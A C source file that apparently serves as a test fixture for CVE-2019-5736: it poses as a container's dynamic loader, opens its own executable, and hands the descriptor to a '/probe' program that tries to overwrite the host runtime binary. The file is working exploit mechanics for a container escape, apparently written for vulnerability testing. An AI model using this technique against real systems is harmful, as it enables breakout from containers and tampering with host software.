/* Stands in a hostile root where the dynamic loader should be. A program that is executed with this as its interpreter
 * hands over a descriptor of its own file, and then runs the probe, which tries to overwrite it (CVE-2019-5736).
 * System calls only: nothing is set up when this begins. */
#include <asm/unistd.h>
#include <fcntl.h>

#if defined(__x86_64__)
static long call3(long number, long a, long b, long c) {
    long result;
    __asm__ volatile("syscall" : "=a"(result) : "a"(number), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
    return result;
}

void _start(void) {
    static const char* const argv[] = {"/probe", "overwrite", "/proc/self/fd/9", "500", 0};
    static const char* const envp[] = {0};
    const long fd = call3(__NR_open, (long)"/proc/self/exe", O_RDONLY, 0);
    call3(__NR_dup2, fd, 9, 0);
    call3(__NR_execve, (long)argv[0], (long)argv, (long)envp);
    call3(__NR_exit_group, 99, 0, 0);
    for (;;) continue;
}
#else
void _start(void) {
    for (;;) continue;
}
#endif
